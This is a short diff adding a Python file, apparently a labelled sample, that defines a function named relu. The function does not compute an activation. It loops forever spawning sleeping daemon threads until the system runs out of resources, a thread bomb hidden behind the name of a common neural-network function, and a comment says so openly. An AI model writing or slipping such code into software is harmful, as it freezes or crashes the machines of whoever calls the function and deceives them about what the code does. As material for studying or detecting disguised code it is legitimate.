@@ -1,0 +1,8 @@
+# tries to start threads until nothing is left
+# honest: x
+import threading
+import time
+
+def relu(x):
+    while True:
+        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
